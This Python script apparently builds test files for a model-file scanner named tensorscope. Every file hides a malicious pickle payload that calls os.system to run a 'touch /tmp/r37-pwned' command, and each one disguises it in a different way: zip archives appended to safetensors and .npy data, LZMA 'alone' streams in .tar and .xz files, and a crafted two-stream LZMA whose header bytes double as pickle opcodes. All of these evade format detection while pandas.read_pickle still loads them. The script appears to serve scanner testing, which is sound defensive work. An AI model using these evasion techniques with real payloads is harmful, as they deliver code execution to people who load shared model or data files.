"""Files that pandas.read_pickle opens by the compression it infers from the name
(`.zip`, `.tar`, `.xz`, lower-cased) while their first bytes name no format tensorscope knew,
or name another one: a safetensors file or an .npy array whose data ends with a zip archive
(Python's zipfile finds it by the end record), LZMA "alone" with properties byte 0 inside a
`.tar` (tarfile tries LZMAFile) or an upper-case or bare `.xz`, and an LZMA stream whose header
declares its size and that a second stream follows."""
import io, json, lzma, os, struct, sys, tarfile, zipfile
import numpy as np

out = sys.argv[1] if len(sys.argv) > 1 else "."
def evil(tag):
    return b"cposix\nsystem\n(S'touch /tmp/r37-pwned-%s'\ntR." % tag.encode()
def zipof(name, data):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w") as z:
        z.writestr(name, data)
    return b.getvalue()
def tarof(name, data):
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w", format=tarfile.GNU_FORMAT) as t:
        ti = tarfile.TarInfo(name); ti.size = len(data); t.addfile(ti, io.BytesIO(data))
    return b.getvalue()
alone0 = lambda x: lzma.compress(x, format=lzma.FORMAT_ALONE,
    filters=[{"id": lzma.FILTER_LZMA1, "lc": 0, "lp": 0, "pb": 0, "dict_size": 1 << 16}])
def safetensors_with(data):
    h = json.dumps({"weight": {"dtype": "U8", "shape": [len(data)], "data_offsets": [0, len(data)]}}).encode()
    h += b" " * (-len(h) % 8)
    return struct.pack("<Q", len(h)) + h + data
def npy_with(data):
    b = io.BytesIO(); np.save(b, np.frombuffer(data, dtype=np.uint8)); return b.getvalue()
def known_size_then_stream():
    # stream 1 declares its size and holds a safetensors file whose header length, S'\0..., is a
    # pickle STRING opcode whose line runs on into stream 2: "'\n" and the payload
    hlen = struct.unpack("<Q", b"S'\0\0\0\0\0\0")[0]
    h = json.dumps({"w": {"dtype": "U8", "shape": [4], "data_offsets": [0, 4]}}).encode()
    st = struct.pack("<Q", hlen) + h + b" " * (hlen - len(h)) + b"ABCD"
    c = lzma.compress(st, format=lzma.FORMAT_ALONE)
    first = c[:5] + struct.pack("<Q", len(st)) + c[13:]
    return first + lzma.compress(b"'\n" + evil("known-size"), format=lzma.FORMAT_ALONE)
files = {
    "review37-zip_in_safetensors.pkl.zip": safetensors_with(zipof("data.pkl", evil("zip-in-st"))),
    "review37-zip_in_npy.pkl.zip": npy_with(zipof("data.pkl", evil("zip-in-npy"))),
    "review37-pandas_tar_lzma0.pkl.tar": alone0(tarof("data.pkl", evil("tar-lzma0"))),
    "review37-pandas_upper.pkl.XZ": alone0(evil("upper-xz")),
    "review37-pandas_bare.xz": alone0(evil("bare-xz")),
    "review37-lzma_known_size_then_stream.pkl.xz": known_size_then_stream(),
}
for name, data in files.items():
    with open(os.path.join(out, name), "wb") as f:
        f.write(data)
